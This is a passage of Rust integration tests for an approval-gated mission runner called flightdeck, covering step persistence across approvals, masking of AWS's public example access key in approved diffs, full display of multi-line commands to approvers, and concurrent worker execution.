/// the approval's append touched.
#[test]
fn a_mission_parked_before_the_projection_items_keeps_its_steps_when_approved() {
    let repo = repo(
        &[(".github/CODEOWNERS", CODEOWNERS)],
        &["echo one > one.txt", "echo two > two.txt", DEPENDENCY_STEP],
    );
    let cli = Cli::new(BIN);
    let (code, summary) = run(&cli, &repo);
    assert_eq!(code, 3, "{summary:#}");
    let id = summary["id"].as_str().unwrap();
    let steps = show(&cli, id)["steps"].clone();
    assert_eq!(steps.as_array().unwrap().len(), 3, "{steps:#}");
    let listed_steps = |cli: &Cli| -> Value {
        let listing = cli.run(&["--json", "missions"]).expect_code(0).json();
        listing
            .as_array()
            .unwrap()
            .iter()
            .find(|m| m["id"] == id)
            .unwrap()["steps"]
            .clone()
    };
    assert_eq!(listed_steps(&cli), steps);

    // What an older flightdeck left: the whole steps in the summary, no items.
    let db = cli.data_dir().join("flightdeck.db");
    let steps_json = steps.to_string().replace('\'', "''");
    let status = std::process::Command::new("sqlite3")
        .arg(&db)
        .arg(format!(
            "DELETE FROM projection_items WHERE mission = '{id}'; \
             UPDATE missions SET summary = json_set(summary, '$.steps', json('{steps_json}')) WHERE id = '{id}'"
        ))
        .status()
        .unwrap();
    assert!(status.success());
    assert_eq!(listed_steps(&cli), steps);

    let approval = summary["pending_approvals"][0]["id"].as_str().unwrap();
    cli.run_as("@alice", &["approve", approval]).expect_code(0);
    assert_eq!(
        listed_steps(&cli),
        steps,
        "the approval's append lost steps"
    );
}

/// A diff that masking changes (here AWS's documentation example key) can be approved: the
/// approval covers the raw diff, the stored patch is the masked one, and the request says so.
#[test]
fn a_diff_with_a_masked_secret_can_be_approved() {
    // The key is put together when the step runs: the template itself holds no secret.
    let step = r#"printf 'serde = "1"\n# AKIA%s\n' IOSFODNN7EXAMPLE >> Cargo.toml"#;
    let repo = repo(&[(".github/CODEOWNERS", CODEOWNERS)], &[step]);
    let cli = Cli::new(BIN);
    let (code, summary) = run(&cli, &repo);
    assert_eq!(code, 3, "{summary:#}");
    let id = summary["id"].as_str().unwrap().to_string();
    let pending = &summary["pending_approvals"][0];
    assert_eq!(pending["masked"], true, "{pending:#}");
    let approval = pending["id"].as_str().unwrap().to_string();
    let events = cli.timeline(&id);
    let requested = &events_of_type(&events, "approval.requested")[0]["data"];
    assert_eq!(requested["masked"], true);
    let bundle: Value = serde_json::from_str(
        &cli.run(&["artifact", requested["bundle"].as_str().unwrap()])
            .expect_code(0)
            .stdout(),
    )
    .unwrap();
    assert_eq!(bundle["diff_masked"], true);
    let patch = cli
        .run(&["artifact", bundle["diff"].as_str().unwrap()])
        .expect_code(0)
        .stdout();
    assert!(!patch.contains("AKIAIOSFODNN7EXAMPLE"), "{patch}");
    assert_ne!(requested["diff_hash"], bundle["diff"]);
    let text = cli.run(&["approvals", "--pending"]).expect_code(0).stdout();
    assert!(text.contains("secrets masked"), "{text}");

    let approved = cli.run_as("@alice", &["approve", &approval]).expect_code(0);
    let printed = approved.stdout();
    assert!(
        printed.contains(requested["diff_hash"].as_str().unwrap()) && printed.contains("masked"),
        "{printed}"
    );
    let done = cli.run(&["--json", "resume", &id]).expect_code(0).json();
    assert_eq!(done["status"], "succeeded", "{done:#}");
    // The user's own change is published as written.
    let published = repo.git(&["show", &format!("flightdeck/{id}:Cargo.toml")]);
    assert!(published.contains("AKIAIOSFODNN7EXAMPLE"), "{published}");
}

/// Approvers see the whole command: text views show its whole first line and how much
/// more there is, JSON all of it, and `approve` prints every line of what it approved.
#[test]
fn approvers_see_the_whole_command_they_approve() {
    let policy = "[defaults]\npublish = \"allow\"\n[[rule]]\nid = \"deploys-need-alice\"\naction = \"command\"\ncommand_matches = [\"sh deploy.sh*\"]\ndecision = \"approve\"\napprovers = [\"@alice\"]\n";
    let long_first_line = format!("sh deploy.sh --target {}", "x".repeat(100));
    let command = format!("{long_first_line}\necho one more line >> after.txt");
    let repo = repo(
        &[
            (".flightdeck/policy.toml", policy),
            ("deploy.sh", "echo ran >> deployed.txt\n"),
        ],
        &[&command],
    );
    let cli = Cli::new(BIN);
    let (code, summary) = run(&cli, &repo);
    assert_eq!(code, 3, "{summary:#}");
    let pending = &summary["pending_approvals"][0];
    assert_eq!(pending["command"], command.as_str());
    let approval = pending["id"].as_str().unwrap().to_string();

    let listed = cli.run(&["approvals", "--pending"]).expect_code(0).stdout();
    let expected = format!(
        "`{long_first_line} (+1 more line, {} bytes)`",
        command.len()
    );
    assert!(listed.contains(&expected), "{listed}");
    let json = cli
        .run(&["--json", "approvals", "--pending"])
        .expect_code(0)
        .json();
    assert_eq!(json[0]["command"], command.as_str());

    let printed = cli
        .run_as("@alice", &["approve", &approval])
        .expect_code(0)
        .stdout();
    assert!(printed.contains(&long_first_line), "{printed}");
    assert!(
        printed.contains("echo one more line >> after.txt"),
        "{printed}"
    );
}

#[test]
fn a_worker_with_concurrency_drives_several_ready_missions_at_once() {
    let policy = "[defaults]\npublish = \"allow\"\n[[rule]]\nid = \"slow-needs-alice\"\naction = \"command\"\ncommand_matches = [\"sh slow.sh*\"]\ndecision = \"approve\"\napprovers = [\"@alice\"]\n";
    let repo = repo(
        &[
            (".flightdeck/policy.toml", policy),
            ("slow.sh", "sleep 2\necho done >> slow.txt\n"),
        ],
        &["sh slow.sh"],
    );
    let cli = Cli::new(BIN);
    let mut ids = Vec::new();
    for _ in 0..2 {
        let (code, parked) = run(&cli, &repo);
        assert_eq!(code, 3, "{parked:#}");
        let approval = parked["pending_approvals"][0]["id"].as_str().unwrap();
        cli.run_as("@alice", &["approve", approval]).expect_code(0);
        ids.push(parked["id"].as_str().unwrap().to_string());
    }
    let refused = cli.run(&["worker", "--once", "--concurrency", "0"]);
    assert_eq!(refused.code(), 2, "{}", refused.stderr());
    cli.run(&["--json", "worker", "--once", "--concurrency", "2"])
        .expect_code(0);
    // Each ran its slow command; the two ran at the same time (each was continued before
    // the other's command finished).
    let window = |id: &str| {
        let events = cli.timeline(id);
        assert_eq!(show(&cli, id)["status"], "succeeded", "{events:#?}");
        let at = |kind: &str| {
            events_of_type(&events, kind)
                .last()
                .unwrap_or_else(|| panic!("no {kind}"))["at"]
                .as_str()
                .unwrap()
                .to_string()
        };
        (at("mission.resumed"), at("tool.completed"))
    };
    let (a_start, a_end) = window(&ids[0]);
    let (b_start, b_end) = window(&ids[1]);
    assert!(
        a_start < b_end && b_start < a_end,
        "not at the same time: {a_start}..{a_end} and {b_start}..{b_end}"
    );
}
